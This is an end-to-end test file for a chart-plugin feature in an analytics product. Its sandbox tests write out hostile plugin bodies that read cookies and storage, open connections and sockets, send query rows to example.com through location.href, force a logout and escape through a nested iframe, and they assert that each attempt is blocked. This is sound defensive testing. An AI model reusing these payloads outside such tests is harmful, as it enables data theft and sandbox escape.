import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { findAxeViolations, launchBrowser, openSignedInPage } from './browser.ts'
import { createApiClient, startProduct, waitForExamples, type Product } from './product.ts'

let product: Product
let browser: Browser
let page: Page
let client: Awaited<ReturnType<typeof createApiClient>>

beforeAll(async () => {
  product = await startProduct({ env: { SUPERSET_FEATURE_DYNAMIC_PLUGINS: 'true' } })
  // Desktop browsers give a sandbox a process of its own; the headless one only with this option.
  browser = await launchBrowser(['--site-per-process'])
  await waitForExamples(product.url)
  client = await createApiClient(product.url, 'admin')
  page = await openSignedInPage(browser, product.url)
  page.setDefaultTimeout(30_000)
})
afterAll(async () => {
  await browser?.close()
  await product?.stop()
})

/** A module whose function `mount` has this body. */
const moduleOf = (viz_type: string, body: string): string => `
export const viz_type = '${viz_type}'
export const name = 'Plugin ${viz_type}'
export const form = ['groupby', 'metric', 'row_limit', { name: 'heading', label: 'Heading', type: 'text', default: 'Total' }]
export async function mount(element, { frames, formData, theme }) { ${body} }
`
const drawsSum = `
  const [{ rows }] = frames
  const value = frames[0].columns.at(-1)
  element.style.color = theme.accent
  element.textContent =
    formData.heading + ': ' + rows.map((row) => (row.origin ?? 'all') + '=' + row[value]).join(', ')`

async function addPlugin(viz_type: string, body: string): Promise<void> {
  const { body: created } = await client.post('/dynamic-plugins/api/create', {
    name: `Plugin ${viz_type}`,
    key: viz_type,
    form: ['groupby', 'metric', 'row_limit'],
    module: moduleOf(viz_type, body),
  })
  expect(created).toMatchObject({ key: viz_type })
}

async function findDataset(): Promise<number> {
  const { body } = await client.get('/api/v1/dataset/?q=(filters:!((col:table_name,opr:eq,value:flights)))')
  return body.result[0].id
}

const open = async (viz_type: string): Promise<void> => {
  const datasource_id = await findDataset()
  const form = { viz_type, datasource: `${datasource_id}__table`, metric: 'count', groupby: [], row_limit: 10 }
  const { body } = await client.post('/api/v1/explore/form_data', {
    datasource_id,
    datasource_type: 'table',
    form_data: JSON.stringify(form),
  })
  await page.goto(`/explore/?form_data_key=${body.key}&datasource_id=${datasource_id}&datasource_type=table`)
}

it('CHART-040, CHART-042: an administrator adds a module, and its chart is drawn from the rows of the query', async () => {
  await page.goto('/dynamic-plugins/list/')
  await page.getByRole('heading', { name: 'No plugins yet' }).waitFor()
  await page.getByRole('button', { name: 'Plugin' }).first().click()
  const dialog = page.getByRole('dialog', { name: 'New plugin' })
  const file = (name: string, text: string) => ({ name, mimeType: 'text/javascript', buffer: Buffer.from(text) })
  await dialog.getByLabel('Module').setInputFiles(file('broken.js', 'export const viz_type = ;'))
  await dialog.getByText('The module could not be run').waitFor()
  await dialog.getByLabel('Module').setInputFiles(file('sums.js', moduleOf('sums', drawsSum)))
  await dialog.getByText('Chart type sums with 4 settings').waitFor()
  expect(await dialog.getByLabel('Name').inputValue()).toBe('Plugin sums')
  expect(await findAxeViolations(page)).toEqual([])
  await dialog.getByRole('button', { name: 'Create' }).click()
  await page.getByRole('button', { name: 'Plugin sums', exact: true }).waitFor()
  expect(await findAxeViolations(page)).toEqual([])

  await open('sums')
  await page.getByRole('tab', { name: 'Style' }).click()
  await page.getByLabel('Heading').fill('Sum')
  await page.keyboard.press('Control+Enter')
  const frame = page.frameLocator('iframe')
  const { body: total } = await client.post('/api/v1/chart/data', {
    datasource: { id: await findDataset(), type: 'table' },
    queries: [{ columns: [], metrics: ['count'] }],
  })
  const [count] = Object.values(total.result[0].data[0] as Record<string, number>)
  await frame.getByText(`Sum: all=${count}`, { exact: true }).waitFor()
})

it('CHART-040: offers an example that is a plugin, and saves no module that cannot be run', async () => {
  await page.goto('/dynamic-plugins/list/')
  await page.getByRole('main').getByRole('button', { name: 'Plugin', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: 'New plugin' })
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Download example' }).click(),
  ])
  const example = await readFile(await download.path(), 'utf8')
  const choose = (text: string) =>
    dialog.getByLabel('Module').setInputFiles({ name: 'a.js', mimeType: 'text/javascript', buffer: Buffer.from(text) })
  await choose(example)
  await dialog.getByText('Chart type bar_list with 4 settings').waitFor()
  await choose('export const name = "No type"; export const mount = () => {}')
  await dialog.getByText('The module exports no viz_type. Add one').waitFor()
  expect(await dialog.getByRole('button', { name: 'Create' }).getAttribute('aria-disabled')).toBe('true')
  await choose(`export const viz_type = 'bar_list'; export const form = [{ name: 'a' }]; export const mount = () => {}`)
  await dialog.getByText('Chart type bar_list with 1 setting').waitFor()
  await dialog.getByLabel('Name').fill('Bar list')
  await dialog.getByRole('button', { name: 'Create' }).click()
  await dialog.getByText('form.0.label: Missing data for required field.').waitFor()
  await choose(example)
  await dialog.getByText('Chart type bar_list with 4 settings').waitFor()
  await dialog.getByRole('button', { name: 'Create' }).click()
  await page.getByText('Plugin Bar list saved. Reload open pages to use it.').waitFor()

  await page.getByRole('button', { name: 'Bar list', exact: true }).click()
  const edit = page.getByRole('dialog', { name: 'Edit plugin' })
  await edit
    .getByLabel('Module')
    .setInputFiles({ name: 'b.js', mimeType: 'text/javascript', buffer: Buffer.from('export const viz_type = ;') })
  await edit.getByText('The module could not be run').waitFor()
  expect(await edit.getByRole('button', { name: 'Save' }).getAttribute('aria-disabled')).toBe('true')
  await page.reload()

  await open('bar_list')
  const frame = page.frameLocator('iframe')
  await frame.getByRole('heading', { name: 'Total' }).waitFor()
})

it.each([
  ['throws', `throw new Error('No idea how to draw this')`, 'No idea how to draw this'],
  ['rejects', `await Promise.reject(new Error('Later, too'))`, 'Later, too'],
  ['loops', 'for (;;) {}', 'It took longer than 5 seconds.'],
])('CHART-043: a plugin that %s shows why, and the page works on', async (viz_type, body, text) => {
  await addPlugin(viz_type, body)
  await open(viz_type)
  await page.getByText(`The plugin Plugin ${viz_type} could not draw this chart`).waitFor()
  await page.getByText(text).waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
  await page.getByRole('button', { name: 'View all charts' }).click()
  await page.getByRole('dialog').waitFor()
  await page.keyboard.press('Escape')
})

it('CHART-043: a plugin that froze the page runs again only when the user asks for it', async () => {
  await addPlugin('frozen', drawsSum)
  await open('frozen')
  await page.frameLocator('iframe').getByText('undefined: all=').waitFor()
  const { body } = await client.get('/dynamic-plugins/api/read')
  const { bundle_url } = body.result.find(({ key }: { key: string }) => key === 'frozen')
  await page.evaluate((url) => sessionStorage.setItem(`parquetry.plugin ${url}`, '1'), bundle_url)
  await page.reload()
  await page.getByText('It froze this page before, so it was not started.').waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.frameLocator('iframe').getByText('undefined: all=').waitFor()
  await page.reload()
  await page.frameLocator('iframe').getByText('undefined: all=').waitFor()
})

it('CHART-042: a plugin reads no cookies, storage or page, and opens no connection', async () => {
  const tries: Record<string, string> = {
    cookie: 'document.cookie',
    storage: 'localStorage.length',
    page: 'parent.document.title',
    fetch: `await fetch('/api/v1/me/')`,
    image: `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail('no'); i.src = '/static/favicon.svg' })`,
    socket: `await new Promise((done, fail) => { const s = new WebSocket('ws://' + location.host); s.onopen = done; s.onerror = () => fail('no') })`,
    worker: `await new Promise((done, fail) => { const w = new Worker('/static/favicon.svg'); w.onerror = () => fail('no'); setTimeout(() => fail('no'), 1000) })`,
    peer: 'new RTCPeerConnection()',
    module: `await import('/static/favicon.svg')`,
    top: `top.location.href = 'https://example.com/'`,
    popup: `if (!open('https://example.com/')) throw new Error('no')`,
  }
  const body = Object.entries(tries)
    .map(([name, code]) => `try { ${code}; done.push('${name}') } catch {}`)
    .join('\n')
  await addPlugin('curious', `const done = []; ${body}; element.textContent = 'reached: ' + done.join(' ') + '.'`)
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await open('curious')
  await page.frameLocator('iframe').getByText('reached: .').waitFor()
  expect(requests.filter((url) => url.includes('example.com'))).toEqual([])
  expect(new URL(page.url()).pathname).toBe('/explore/')
})

it('CHART-042: a plugin cannot send its rows anywhere by leaving, nor sign its user out', async () => {
  const requests: string[] = []
  await page.context().route('https://example.com/**', (route) => {
    requests.push(route.request().url())
    return route.fulfill({ body: 'caught' })
  })
  await addPlugin(
    'leaving',
    `location.href = 'https://example.com/?rows=' + JSON.stringify(frames); await new Promise(() => {})`,
  )
  await open('leaving')
  await page.getByText('It took longer than 5 seconds.').waitFor()
  await addPlugin('signing-out', `location.href = '/logout/'; await new Promise(() => {})`)
  await open('signing-out')
  await page.getByText('It took longer than 5 seconds.').waitFor()
  expect((await page.request.get('/api/v1/me/')).status()).toBe(200)
  const nested = `
    const inner = document.createElement('iframe')
    inner.srcdoc = '<script>new RTCPeerConnection(); parent.postMessage("connected", "*")</script>'
    let said = 'nothing'
    addEventListener('message', ({ data }) => (said = data))
    element.append(inner)
    try { new inner.contentWindow.RTCPeerConnection(); said = 'connected' } catch {}
    await new Promise((done) => setTimeout(done, 500))
    element.textContent = 'nested: ' + said`
  await addPlugin('nesting', nested)
  await open('nesting')
  await page.frameLocator('iframe').getByText('nested: nothing', { exact: true }).waitFor()
  expect(requests).toEqual([])
})

it('CHART-040: is drawn on a dashboard with its filters, and a picture says that it is drawn by a plugin', async () => {
  const datasource_id = await findDataset()
  const form = {
    viz_type: 'sums',
    datasource: `${datasource_id}__table`,
    metric: 'count',
    groupby: ['origin'],
    row_limit: 3,
  }
  const queries = [{ columns: ['origin'], metrics: ['count'], row_limit: 3, filters: [], orderby: [['count', false]] }]
  const { body: chart } = await client.post('/api/v1/chart/', {
    slice_name: 'Sums',
    viz_type: 'sums',
    datasource_id,
    datasource_type: 'table',
    params: JSON.stringify(form),
    query_context: JSON.stringify({ datasource: { id: datasource_id, type: 'table' }, queries, form_data: form }),
  })
  const { body: dashboard } = await client.post('/api/v1/dashboard/', { dashboard_title: 'Plugins', published: true })
  const filter = {
    id: 'NATIVE_FILTER-a',
    type: 'NATIVE_FILTER',
    name: 'From',
    filterType: 'filter_select',
    targets: [{ datasetId: datasource_id, column: { name: 'origin' } }],
    controlValues: { multiSelect: true },
    defaultDataMask: {
      extraFormData: { filters: [{ col: 'origin', op: 'IN', val: ['ORD'] }] },
      filterState: { value: ['ORD'] },
    },
    cascadeParentIds: [],
    scope: { rootPath: ['ROOT_ID'], excluded: [] },
  }
  const positions = {
    DASHBOARD_VERSION_KEY: 'v2',
    ROOT_ID: { id: 'ROOT_ID', type: 'ROOT', children: ['GRID_ID'] },
    GRID_ID: { id: 'GRID_ID', type: 'GRID', children: ['ROW-a'], parents: ['ROOT_ID'] },
    'ROW-a': { id: 'ROW-a', type: 'ROW', children: ['CHART-a'], parents: ['ROOT_ID', 'GRID_ID'], meta: {} },
    'CHART-a': {
      id: 'CHART-a',
      type: 'CHART',
      children: [],
      parents: ['ROOT_ID', 'GRID_ID', 'ROW-a'],
      meta: { chartId: chart.id, width: 6, height: 40 },
    },
  }
  await client.put(`/api/v1/dashboard/${dashboard.id}`, {
    json_metadata: JSON.stringify({ positions, native_filter_configuration: [filter] }),
  })
  await page.goto(`/superset/dashboard/${dashboard.id}/`)
  await page
    .frameLocator('iframe')
    .getByText(/^Total: ORD=\d+$/)
    .waitFor()
  expect(await findAxeViolations(page)).toEqual([])
  const { body: svg } = await client.post(`/api/v1/dashboard/${dashboard.id}/picture`, { format: 'svg' })
  expect(String(svg)).toContain('Drawn by a plugin (Plugin sums)')
})
